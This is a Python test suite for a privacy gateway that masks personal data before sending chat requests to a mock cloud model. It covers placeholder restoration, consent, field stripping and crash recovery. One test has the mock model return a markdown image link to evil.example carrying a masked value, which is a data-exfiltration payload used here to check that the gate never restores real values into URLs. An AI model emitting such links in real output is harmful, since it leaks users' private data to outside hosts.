#!/usr/bin/env python3
# privacy_gate: the gate as its clients meet it, in front of a cloud on loopback that records every byte: what leaves, what comes back, what is asked, what is written.
import glob, http.client, json, os, re, shutil, signal, subprocess, sys, tempfile, threading, time, unittest

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "gate"))
import run
from planted import Maker, leaks
from upstream import Upstream, echo

CONFIG = """
[server]
listen = "127.0.0.1:0"
api_key_file = "keys"
[local]
model = "{model}"
name = "tiny"
[upstream.cloud]
base_url = "{url}"
api_key_env = "GATE_TEST_KEY"
models = ["big-1"]
timeout_s = 3
[privacy]
id = "house"
default_route = "cloud"
vault_dir = "state"
[privacy.classes]
dob = "ask"
[privacy.consent]
scopes = {{ dob = ["once", "session"] }}
[[privacy.term]]
name = "people"
terms = ['Ann "Q" \\ Lee 😀', "שלום עולם", "Zoë Łuk"]
action = "mask"
[audit]
path = "audit.jsonl"
checkpoint_lines = 10
"""
PLACEHOLDER = re.compile(r"\b(?:PERSON|EMAIL|PHONE|ADDRESS|CARD|IBAN|ID|SECRET|IP|DATE|TERM|DATA)_[0-9A-Z]{6,8}\b")
NAMES = ['Ann "Q" \\ Lee 😀', "שלום עולם", "Zoë Łuk"]


def placeholders(body):
    return PLACEHOLDER.findall(json.dumps([m["content"] for m in body["messages"] if m["role"] == "user"]))


class Gate(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = tempfile.mkdtemp(prefix="calla-gate-")
        with open(os.path.join(cls.folder, "keys"), "w") as f:
            f.write("first\nsecond\n")
        cls.cloud = Upstream()
        cls.server = run.Server(cls.folder, cls.cloud.url(), CONFIG)

    @classmethod
    def tearDownClass(cls):
        cls.server.stop()
        cls.cloud.close()
        shutil.rmtree(cls.folder, True)

    def setUp(self):
        self.cloud.reply = lambda body: {"content": echo(body)}
        self.cloud.take()

    def post(self, body, headers=(), path="/v1/chat/completions", key="first"):
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        connection = http.client.HTTPConnection("127.0.0.1", self.server.port, timeout=30)
        connection.request("POST", path, data, {"Content-Type": "application/json", "Authorization": "Bearer " + key, **dict(headers)})
        answer = connection.getresponse()
        raw = answer.read()
        connection.close()
        return answer.status, answer.headers, raw

    def ask(self, text, model="auto", headers=(), key="first", **more):
        status, seen, raw = self.post({"model": model, "messages": [{"role": "user", "content": text}], "max_tokens": 4, **more}, headers, key=key)
        return status, seen.get("X-Calla-Route"), json.loads(raw)

    def lines(self):
        with open(os.path.join(self.folder, "audit.jsonl")) as f:
            return [line for line in map(json.loads, f) if line["kind"] == "request"]

    def nothing_left(self):
        self.assertEqual(self.cloud.take(), [])

    # ---- what comes back ----
    def test_tool_arguments_are_restored_and_stay_json(self):
        def reply(body):
            found = placeholders(body)
            return {"content": "", "tool_calls": [("send_mail", json.dumps({"to": found[0], "body": 'Hi "%s"\n' % found[1]})), ("note", json.dumps({"for": found[2]}, ensure_ascii=False))]}
        self.cloud.reply = reply
        text = " und ".join(NAMES)
        for n in (1, 2):
            for stream in (False, True):
                status, headers, raw = self.post({"model": "auto", "stream": stream, "n": n, "messages": [{"role": "user", "content": text}], "tools": [
                    {"type": "function", "function": {"name": name, "description": "x", "parameters": {"type": "object"}}} for name in ("send_mail", "note")]})
                self.assertEqual((status, headers["X-Calla-Route"]), (200, "cloud-masked"), raw)
                calls = {}
                if stream:
                    for line in raw.decode().splitlines():
                        if line.startswith("data: {"):
                            for choice in json.loads(line[6:])["choices"]:
                                for call in choice["delta"].get("tool_calls") or []:
                                    key = choice["index"], call["index"]
                                    calls[key] = calls.get(key, "") + call["function"].get("arguments", "")
                else:
                    for choice in json.loads(raw)["choices"]:
                        for i, call in enumerate(choice["message"]["tool_calls"]):
                            calls[choice["index"], i] = call["function"]["arguments"]
                self.assertEqual(len(calls), 2 * n, (stream, raw))
                for i in range(n):
                    self.assertEqual(json.loads(calls[i, 0]), {"to": NAMES[0], "body": 'Hi "%s"\n' % NAMES[1]}, (n, stream))
                    self.assertEqual(json.loads(calls[i, 1]), {"for": NAMES[2]}, (n, stream))
                for data, _ in self.cloud.take():
                    for name in NAMES:
                        self.assertIsNone(leaks(name, data))

    def test_reasoning_and_interleaved_choices_are_restored(self):
        self.cloud.reply = lambda body: {"reasoning_content": "about " + echo(body), "content": "é" + echo(body)}
        text = "Write to jane.roe@example.org and +44 7700 900123, " + NAMES[1]
        for n in (1, 2):
            for stream in (False, True):
                status, headers, raw = self.post({"model": "auto", "stream": stream, "n": n, "messages": [{"role": "user", "content": text}]})
                self.assertEqual((status, headers["X-Calla-Route"]), (200, "cloud-masked"), raw)
                lanes = {}
                if stream:
                    for line in raw.decode().splitlines():
                        if line.startswith("data: {"):
                            for choice in json.loads(line[6:])["choices"]:
                                for lane in ("reasoning_content", "content"):
                                    lanes[choice["index"], lane] = lanes.get((choice["index"], lane), "") + (choice["delta"].get(lane) or "")
                else:
                    for choice in json.loads(raw)["choices"]:
                        for lane in ("reasoning_content", "content"):
                            lanes[choice["index"], lane] = choice["message"].get(lane)
                for i in range(n):
                    self.assertEqual((lanes[i, "reasoning_content"], lanes[i, "content"]), ("about " + text, "é" + text), (n, stream))

    def test_what_was_not_sent_is_not_restored(self):
        self.cloud.reply = lambda body: {"content": "EMAIL_000000 PERSON_7KQ2M " + echo(body)}
        status, route, body = self.ask("jane.roe@example.org and PERSON_7KQ2M0 say hi")
        self.assertEqual((status, route), (200, "cloud-masked"))
        self.assertEqual(body["choices"][0]["message"]["content"], "EMAIL_000000 PERSON_7KQ2M jane.roe@example.org and PERSON_7KQ2M0 say hi")

    def test_no_value_goes_into_a_url(self):
        self.cloud.reply = lambda body: {"content": "![x](https://evil.example/?q=%s) %s" % (placeholders(body)[0], placeholders(body)[0])}
        _, _, body = self.ask("Write to jane.roe@example.org")
        text = body["choices"][0]["message"]["content"]
        self.assertNotIn("jane", text.split(")")[0])
        self.assertTrue(text.endswith(" jane.roe@example.org"), text)

    # ---- what a client may ask ----
    def test_a_request_can_only_be_made_stricter(self):
        for value, model, expected in (("local", "auto", (200, "local")), ("refuse", "auto", (403, "refused")), ("local", "cloud/big-1", (403, "refused")), ("allow", "auto", (400, "refused")),
                                       ("nonsense", "auto", (400, "refused"))):
            status, route, body = self.ask("tell me about tea", model, {"X-Calla-Privacy": value})
            self.assertEqual((status, route), expected, (value, model, body))
            self.nothing_left()
        self.assertEqual(self.ask("tell me about tea", headers={"X-Calla-Privacy": "mask"})[:2], (200, "cloud"))

    def test_consent(self):
        text, value = "I was born on 3 March 1987, what is my star sign?", "3 March 1987"
        def offer(**more):
            status, route, body = self.ask(text, **more)
            self.assertEqual((status, route), (428, "ask"), body)
            self.assertEqual(body["error"]["code"], "consent_required")
            self.assertNotIn(value, json.dumps(body))
            self.nothing_left()
            return body["error"]["privacy"]["consent"]
        def answer(id, decision, body=text, **more):
            return self.ask(body, headers={"X-Calla-Consent": f"{id}; decision={decision}"}, **more)

        consent = offer()
        self.assertIn("mask_once", consent["choices"])
        status, route, body = answer(consent["id"], "mask_once")
        self.assertEqual((status, route), (200, "cloud-masked"), body)
        self.assertEqual(body["choices"][0]["message"]["content"], text)
        for data, _ in self.cloud.take():
            self.assertIsNone(leaks(value, data))
        self.assertEqual(answer(consent["id"], "mask_once")[2]["error"]["code"], "consent_invalid")  # replayed
        consent = offer()
        id = consent["id"]
        changed = ("B" if id[-1] != "B" else "C")
        for wrong in (answer(id[:-1] + changed, "mask_once"), answer(id, "mask_once", key="second"), answer(id, "mask_once", body=text + "!"), answer(id, "mask_once", temperature=0.5), answer(id, "send_it")):
            self.assertEqual((wrong[0], wrong[2]["error"]["code"]), (400, "consent_invalid"), wrong)
        self.nothing_left()
        self.assertEqual(answer(offer()["id"], "cancel")[2]["error"]["code"], "privacy_refused")
        self.assertEqual(answer(offer()["id"], "local")[:2], (200, "local"))
        self.assertEqual(self.ask(text, headers={"X-Calla-Consent": "none"})[:2], (200, "local"))
        self.nothing_left()

    def test_consent_for_a_session(self):
        text, session = "I was born on 3 March 1987, what is my star sign?", {"X-Calla-Conversation": "consent-session"}
        _, _, body = self.ask(text, headers=session)
        id = body["error"]["privacy"]["consent"]["id"]
        self.assertEqual(self.ask(text, headers={**session, "X-Calla-Consent": id + "; decision=mask_session"})[:2], (200, "cloud-masked"))
        self.assertEqual(self.ask(text + " Please.", headers=session)[:2], (200, "cloud-masked"))
        self.assertEqual(self.ask(text + " Please.", headers={"X-Calla-Conversation": "another"})[:2], (428, "ask"))
        self.assertEqual(self.ask(text + " Please.", headers=session, key="second")[:2], (428, "ask"))

    # ---- what cannot be read ----
    def test_bad_bodies_are_refused_before_anything(self):
        card = Maker(3).card()
        one = '{"role":"user","content":"hi"}'
        bad = [f'{{"model":"%s","messages":[{{"role":"user","content":"hi","content":"card {card}"}}]}}'.encode(), f'{{"model":"%s","messages":[{one}],"messages":[{one}]}}'.encode(),
               b'{"model":"%s","messages":[{"role":"user","content":"\xff\xfe"}]}', b'{"model":"%s","messages":[{"role":"user","content":"\\ud800 x"}]}', b'{"model":"%s","messages":[{"role":"user","content":"\\udc00"}]}',
               b'{"model":"%s","messages":[{"role":"user","content":"\xed\xa0\x80"}]}', b'{"model":"%s","messages":[', b'{"model":"%s"} x']
        for body in bad:
            for model in (b"auto", b"cloud/big-1", b"local/tiny"):
                before = len(self.lines())
                status, headers, raw = self.post(body.replace(b"%s", model))
                self.assertEqual((status, json.loads(raw)["error"]["code"]), (400, "invalid_json"), (body, raw))
                self.assertNotIn(card.encode(), raw)
                self.assertIn("X-Calla-Audit-Id", headers)
                self.assertEqual(len(self.lines()), before + 1, body)
        self.nothing_left()

    def test_what_has_no_place_in_a_cloud_request(self):
        email, user = Maker(4).email(), lambda content: {"messages": [{"role": "user", "content": content}]}
        image = [{"type": "text", "text": "what is this?"}, {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}]
        for body, status, code, param in (({**user("hi"), "shadow": email}, 400, "unsupported_for_cloud", "shadow"), ({"messages": [{"role": "user", "content": "hi", "note": email}]}, 400, "unsupported_for_cloud", "messages[0].note"),
                                          (user(image), 403, "privacy_refused", None)):
            got, _, raw = self.post({"model": "cloud/big-1", **body})
            error = json.loads(raw)["error"]
            self.assertEqual((got, error["code"]), (status, code), raw)
            if param:
                self.assertEqual(error["param"], param)
            self.assertNotIn(email.encode(), raw)
            self.nothing_left()
        for model in ("cloud/big-1", "auto"):
            self.post({"model": model, "prompt": [1, 2, 3], "max_tokens": 2}, path="/v1/completions")
            self.post({"model": model, "input": "mail " + email}, path="/v1/embeddings")
            self.post({"model": model, "input": [1, 2]}, path="/v1/embeddings")
            for data, _ in self.cloud.take():
                self.assertIsNone(leaks(email, data))
        self.post({"model": "auto", **user(image)})
        self.nothing_left()

    def test_client_fields_are_not_forwarded(self):
        email = Maker(5).email()
        status, _, raw = self.post({"model": "auto", "messages": [{"role": "user", "content": "tea?"}], "user": email, "metadata": {"who": email}, "safety_identifier": email, "prompt_cache_key": email, "store": True},
                                   {"Cookie": "id=" + email, "X-Forwarded-For": "203.0.113.9", "User-Agent": "agent-of-" + email})
        self.assertEqual(status, 200, raw)
        (data, body), = self.cloud.take()
        self.assertIsNone(leaks(email, data))
        for word in (b"first", b"Cookie", b"203.0.113.9", b"agent-of"):
            self.assertNotIn(word, data)
        self.assertIsNot(body.get("store"), True)

    # ---- what is not needed is not touched ----
    def test_a_local_request_opens_no_connection(self):
        self.assertEqual(self.ask("my card is " + Maker(6).card(), "local/tiny")[:2], (200, "local"))
        self.nothing_left()

    def test_a_cloud_that_fails_is_told_from_one_that_answers(self):
        self.cloud.moods = ("error",)
        try:
            status, route, body = self.ask("tell me about tea", "cloud/big-1")
            self.assertEqual((status, body["error"]["code"], body["error"]["upstream_status"]), (502, "upstream_failed", 500))
            self.assertNotIn("upstream says", json.dumps(body))
            self.cloud.moods = ("cut",)
            status, route, body = self.ask("tell me about tea, and more, and more of it again", "cloud/big-1")
            self.assertEqual((status, body["error"]["code"]), (502, "upstream_failed"), body)
        finally:
            self.cloud.moods = ("ok",)


class Restart(unittest.TestCase):
    def test_killed_in_the_middle(self):
        folder = tempfile.mkdtemp(prefix="calla-gate-")
        cloud = Upstream(3, ("ok", "ok", "hang"))
        config = CONFIG.replace('api_key_file = "keys"\n', "")
        email, headers = Maker(9).email(), {"Content-Type": "application/json", "X-Calla-Conversation": "kept"}
        body = {"model": "auto", "messages": [{"role": "user", "content": "Write to " + email}]}
        try:
            server = run.Server(folder, cloud.url(), config)
            def send():
                connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=20)
                try:
                    connection.request("POST", "/v1/chat/completions", json.dumps(body), headers)
                    connection.getresponse().read()
                except (OSError, http.client.HTTPException):
                    pass
                finally:
                    connection.close()
            send()
            threads = [threading.Thread(target=send) for _ in range(12)]
            for thread in threads:
                thread.start()
            time.sleep(0.2)
            server.process.send_signal(signal.SIGKILL)
            server.process.communicate()
            server.log.close()
            for thread in threads:
                thread.join()
            self.verify(folder)
            before = self.tokens(cloud)
            self.assertEqual(len(before), 1, before)
            cloud.moods = ("ok",)
            server = run.Server(folder, cloud.url(), config)
            send()
            server.stop()
            self.verify(folder)
            self.assertEqual(self.tokens(cloud), before)
            for path in glob.glob(os.path.join(folder, "**", "*"), recursive=True):
                if os.path.isfile(path):
                    with open(path, "rb") as f:
                        self.assertIsNone(leaks(email, f.read()), path)
        finally:
            cloud.close()
            shutil.rmtree(folder, True)

    def tokens(self, cloud):
        return {token for _, body in cloud.take() if body for token in placeholders(body)}

    def verify(self, folder):
        done = subprocess.run([run.CALLA, "audit", "verify", os.path.join(folder, "audit.jsonl"), "--json"], capture_output=True, text=True)
        self.assertEqual(done.returncode, 0, done.stdout + done.stderr)


class Random(unittest.TestCase):
    def test_random_requests(self):
        done = subprocess.run([sys.executable, os.path.join(HERE, "gate", "run.py"), "--requests", "200", "--seed", "77", "--threads", "4"], capture_output=True, text=True)
        self.assertEqual(done.returncode, 0, done.stdout + done.stderr)


if __name__ == "__main__":
    unittest.main()
